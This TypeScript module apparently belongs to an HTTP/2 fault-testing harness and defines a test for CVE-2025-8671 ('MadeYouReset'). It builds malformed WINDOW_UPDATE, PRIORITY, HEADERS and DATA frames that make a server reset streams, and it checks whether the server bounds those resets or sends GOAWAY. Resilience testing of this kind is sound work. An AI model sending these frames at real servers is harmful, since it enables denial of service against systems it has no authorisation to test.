import { frameTypes } from '../../../protos/h2/constants.ts';
import { encodeData, encodeFrame, encodePriority, encodeWindowUpdate } from '../../../protos/h2/frames.ts';
import { Type } from '../../../protos/schema/type.ts';
import { count, type Get, h2Fault, join, times } from './h2-fault.ts';

const widest = 0x7fff_ffff;

/** Each makes a conforming server reset the stream of a request that it is working on. */
const primitives: Record<string, (id: number, get: Get) => Buffer> = {
  window_update_0: (id) => encodeWindowUpdate(id, 0),
  window_update_overflow: (id) => encodeWindowUpdate(id, widest),
  priority_length: (id) => encodeFrame(frameTypes.PRIORITY, 0, id, Buffer.alloc(4)),
  priority_self: (id) => encodePriority(id, { exclusive: false, dependsOn: id, weight: 16 }),
  headers_after_end: (id, get) => get(id),
  data_after_end: (id) => encodeData(id, 'late'),
};

export const madeYouReset = h2Fault(
  'h2-made-you-reset',
  'Makes the server reset streams whose whole requests it has.',
  'streams it resets itself, to be bounded like those of the client; or GOAWAY',
  'CVE-2025-8671',
  {
    path: '/mode/hang?t=30',
    extra: {
      n: count(20),
      how: Type.Enum(Object.keys(primitives), {
        default: 'window_update_0',
        description: 'What the server must reset the stream for.',
      }),
    },
    script: (get, { n, how }) => ({
      frames: [join(...times(n, (at) => join(get(2 * at + 1), primitives[how as string]!(2 * at + 1, get))))],
      until: 'ping',
    }),
  },
);
